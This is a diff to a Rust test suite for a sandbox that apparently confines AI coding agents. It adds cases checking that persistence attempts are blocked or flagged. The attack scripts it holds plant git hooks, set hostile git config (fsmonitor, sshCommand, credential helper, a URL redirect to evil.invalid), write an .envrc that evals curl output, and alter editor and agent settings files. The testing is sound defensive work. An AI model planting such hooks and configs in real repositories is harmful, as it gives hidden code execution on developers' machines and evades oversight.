@@ -529,8 +529,18 @@ case!(a06_persistence_in_git_and_editor_metadata, |c| {
     ] {
         expect_fail(&out, l);
     }
-    // Residual (documented): nested repositories outside the protected list are writable.
+    // Nested repositories outside the protected list are writable, and flagged afterwards.
     expect(&out, "nested", &["0"]);
+    assert!(
+        out.record
+            .post_run
+            .flags
+            .iter()
+            .any(|f| f.kind == ollie_sandbox::FlagKind::NewRepository
+                && f.path == Path::new("vendor/x/.git")),
+        "{:?}",
+        out.record.post_run.flags
+    );
     assert!(!c.w.join(".git/hooks/pre-commit").exists());
     assert!(!c.w.join(".claude/settings.json").exists());
     assert_eq!(
@@ -545,6 +555,153 @@ case!(a06_persistence_in_git_and_editor_metadata, |c| {
             "{p} not protected"
         );
     }
+});
+
+case!(a06b_missing_protected_paths_are_blocked, |c| {
+    // The same attack on a workspace where none of the protected paths exist yet: the first
+    // missing component of each is blocked for the run (an empty placeholder bound read-only)
+    // and the host workspace is left exactly as it was.
+    let pol = p_std_with(|t| {
+        t.replace(
+            "protected = [",
+            "protected = [\"{workdir}/.git\", \"{workdir}/.claude/settings.json\", \"{workdir}/.vscode\", \"{workdir}/.envrc\", ",
+        )
+    });
+    let out = c.run(
+        &pol,
+        "git init -q; echo \"init $?\"; mkdir -p .git/hooks; echo \"mkhooks $?\"; \
+         printf '#!/bin/sh\\ntouch /tmp/hook\\n' > .git/hooks/pre-commit; echo \"hook $?\"; \
+         mkdir -p .claude; echo '{}' > .claude/settings.json; echo \"claude $?\"; \
+         echo 'eval x' > .envrc; echo \"envrc $?\"; mkdir -p .vscode/x; echo \"vscode $?\"; \
+         rmdir .envrc; echo \"rmdir $?\"; mv .vscode v2; echo \"mv $?\"; ln -s /tmp .git2 && mv -T .git2 .git; echo \"swap $?\"; \
+         mkdir -p vendor/x && git -C vendor/x init -q; echo \"nested $?\"; touch ok; echo \"other $?\"",
+    );
+    for l in [
+        "init", "mkhooks", "hook", "claude", "envrc", "vscode", "rmdir", "mv", "swap",
+    ] {
+        expect_fail(&out, l);
+    }
+    expect(&out, "nested", &["0"]);
+    expect(&out, "other", &["0"]);
+    let w = c.w.canonicalize().unwrap();
+    for p in [".git", ".claude", ".vscode", ".envrc"] {
+        assert!(
+            out.record.layers.mounts.placeholders.contains(&w.join(p)),
+            "{p} not blocked: {:?}",
+            out.record.layers.mounts.placeholders
+        );
+        assert!(!c.w.join(p).exists(), "placeholder {p} left on the host");
+    }
+    assert!(c.w.join("ok").exists());
+    assert!(!c.w.join("v2").exists());
+    assert_absent(&["/tmp/hook"]);
+});
+
+case!(a06c_persistence_is_flagged_by_the_post_run_diff, |c| {
+    // "Landlock only": no protected islands at all (the policy declares none), so every write
+    // of the case-6 script succeeds. The post-run diff must flag each persistence item, and
+    // host-side git in the workspace is refused until a human acknowledges.
+    assert!(
+        Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(&c.w)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let pol = p_std_with(|t| {
+        let start = t.find("protected = [").unwrap();
+        let end = t[start..].find(']').unwrap() + start + 1;
+        format!("{}protected = []{}", &t[..start], &t[end..])
+    });
+    let out = c.run(
+        &pol,
+        "printf '#!/bin/sh\\ntouch /tmp/hook\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         git config core.hooksPath .hooks; git config core.fsmonitor 'touch /tmp/fsm'; \
+         git config core.sshCommand 'sh -c id'; git config credential.helper '!touch /tmp/cred'; \
+         git config url.https://evil.invalid/.insteadOf https://github.com/; \
+         mkdir -p vendor/x && git -C vendor/x init -q && echo 'touch /tmp/n' > vendor/x/.git/hooks/post-checkout; \
+         mkdir -p .claude .vscode; echo '{}' > .claude/settings.json; echo '{}' > .vscode/tasks.json; \
+         echo 'eval \"$(curl -s x)\"' > .envrc; echo done 0",
+    );
+    expect(&out, "done", &["0"]);
+    let flags = &out.record.post_run.flags;
+    let has = |kind: ollie_sandbox::FlagKind, path: &str, detail: &str| {
+        flags
+            .iter()
+            .any(|f| f.kind == kind && f.path == Path::new(path) && f.detail.contains(detail))
+    };
+    use ollie_sandbox::FlagKind::*;
+    let want = [
+        (GitHook, ".git/hooks/pre-commit", ""),
+        (GitHook, "vendor/x/.git/hooks/post-checkout", ""),
+        (NewRepository, "vendor/x/.git", ""),
+        (GitConfig, ".git/config", "core.hookspath = .hooks"),
+        (GitConfig, ".git/config", "core.fsmonitor"),
+        (GitConfig, ".git/config", "core.sshcommand"),
+        (GitConfig, ".git/config", "credential.helper"),
+        (GitConfig, ".git/config", "insteadof = https://github.com/"),
+        (WatchedFile, ".envrc", ""),
+        (WatchedFile, ".claude/settings.json", ""),
+        (WatchedFile, ".vscode/tasks.json", ""),
+    ];
+    for (k, p, d) in want {
+        assert!(has(k, p, d), "no flag {k:?} {p} {d}: {flags:#?}");
+    }
+    // The record carries them as JSON.
+    let json: serde_json::Value = serde_json::from_str(&out.record.to_json()).unwrap();
+    assert!(json["post_run"]["flags"].as_array().unwrap().len() >= want.len());
+    // Host-side git is refused until acknowledged; the hook never ran (no marker).
+    let mut ws = ollie_sandbox::workspace::Workspace::open(&c.w).unwrap();
+    ws.record_flags(flags);
+    assert!(matches!(
+        ws.git_allowed(),
+        ollie_sandbox::GitDecision::Deny(_)
+    ));
+    assert!(ws.git_command().is_err());
+    assert_eq!(ws.acknowledge_flags(flags), 0);
+    assert_eq!(ws.git_allowed(), ollie_sandbox::GitDecision::Allow);
+    assert_absent(&["/tmp/hook", "/tmp/fsm", "/tmp/n", "/tmp/cred"]);
+    // A run that changes nothing flags nothing.
+    let out = c.run(&pol, "git status --short >/dev/null; echo x > notes.txt");
+    assert!(
+        out.record.post_run.flags.is_empty(),
+        "{:?}",
+        out.record.post_run.flags
+    );
+});
+
+case!(a06d_protected_island_cannot_be_moved_aside, |c| {
+    // The default profile protects `.git/hooks` and `.git/config`, not `.git`. Moving `.git`
+    // aside (taking the read-only binds along) and creating a fresh `.git/hooks` must fail:
+    // the ancestors of a protected island are pinned (a mount point cannot be renamed).
+    assert!(
+        Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(&c.w)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let out = c.run(
+        &p_std(),
+        "mv .git .g2; echo \"mvgit $?\"; mv .git/hooks .git/h2; echo \"mvhooks $?\"; \
+         rmdir .git; echo \"rmgit $?\"; mkdir -p .git/hooks/x; echo \"mkdir $?\"; \
+         echo x > .git/hooks/pre-commit; echo \"hook $?\"; \
+         git -c user.name=t -c user.email=t@e commit -q --allow-empty -m x; echo \"commit $?\"",
+    );
+    for l in ["mvgit", "mvhooks", "rmgit", "mkdir", "hook"] {
+        expect_fail(&out, l);
+    }
+    // .git itself stays writable for git.
+    expect(&out, "commit", &["0"]);
+    assert!(!c.w.join(".g2").exists());
+    assert!(!c.w.join(".git/hooks/pre-commit").exists());
+    assert!(
+        out.record.post_run.flags.is_empty(),
+        "{:?}",
+        out.record.post_run.flags
+    );
 });
 
 case!(a07_metadata_changes_on_readonly_paths, |c| {
@@ -728,29 +885,46 @@ case!(a14_reading_secrets_std_and_ro, |c| {
 });
 
 case!(a15_shared_tmp_and_shm, |c| {
+    // /tmp is the host's and stays closed. /dev/shm is a private, size-limited tmpfs per run:
+    // POSIX shared memory works inside, and nothing reaches (or comes from) the host's.
     let n = &c.name;
+    let host_shm = format!("/dev/shm/sbx-host-{n}");
+    std::fs::write(&host_shm, "host").unwrap();
     let out = c.run(
         &p_std(),
         &py(&format!(
             "t('tmp', lambda: write('/tmp/sbx-{n}')); t('shm', lambda: write('/dev/shm/sbx-{n}')); \
              t('symlink', lambda: os.symlink('{}', '/tmp/app-{n}.log')); \
+             t('hostshm', lambda: open('{host_shm}').read()); \
+             t('shmlink', lambda: os.symlink('{}', '/dev/shm/rc')); t('shmrc', lambda: write('/dev/shm/rc', 'a')); \
              from multiprocessing import shared_memory as s; t('shmem', lambda: s.SharedMemory(create=True,size=4096))",
+            c.home.join(".bashrc").display(),
             c.home.join(".bashrc").display()
         )),
     );
-    for l in ["tmp", "shm", "symlink"] {
+    for l in ["tmp", "symlink", "shmrc"] {
         expect(&out, l, DENIED_W);
     }
-    expect(
-        &out,
-        "shmem",
-        &["EACCES", "EROFS", "EPERM", "FileNotFoundError"],
+    expect(&out, "shm", &["OK"]);
+    expect(&out, "shmem", &["OK"]);
+    expect(&out, "shmlink", &["OK"]);
+    expect(&out, "hostshm", &["FileNotFoundError", "ENOENT"]);
+    assert_eq!(std::fs::read_to_string(&host_shm).unwrap(), "host");
+    let _ = std::fs::remove_file(&host_shm);
+    assert_eq!(
+        std::fs::read_to_string(c.home.join(".bashrc")).unwrap(),
+        "# bashrc canary\n"
     );
     assert_absent(&[
         &format!("/tmp/sbx-{n}"),
         &format!("/dev/shm/sbx-{n}"),
+        "/dev/shm/rc",
         &format!("/tmp/app-{n}.log"),
     ]);
+    assert_eq!(
+        out.record.layers.mounts.private_shm.as_deref(),
+        Some(Path::new("/dev/shm"))
+    );
 });
 
 case!(a16_workspace_is_home_secrets_stay_closed, |c| {
@@ -1338,7 +1512,8 @@ case!(d34_exit_status_reaping_cancel, |c| {
     assert_eq!(out.record.exit.status, 5);
     assert!(!out.record.exit.timed_out);
     assert!(
-        procs_with("sleep 100").is_empty(),
+        // "sleep 100 " (cmdline NULs become spaces): not "sleep 1000" of other suites.
+        procs_with("sleep 100 ").is_empty(),
         "no process survives the run"
     );
 
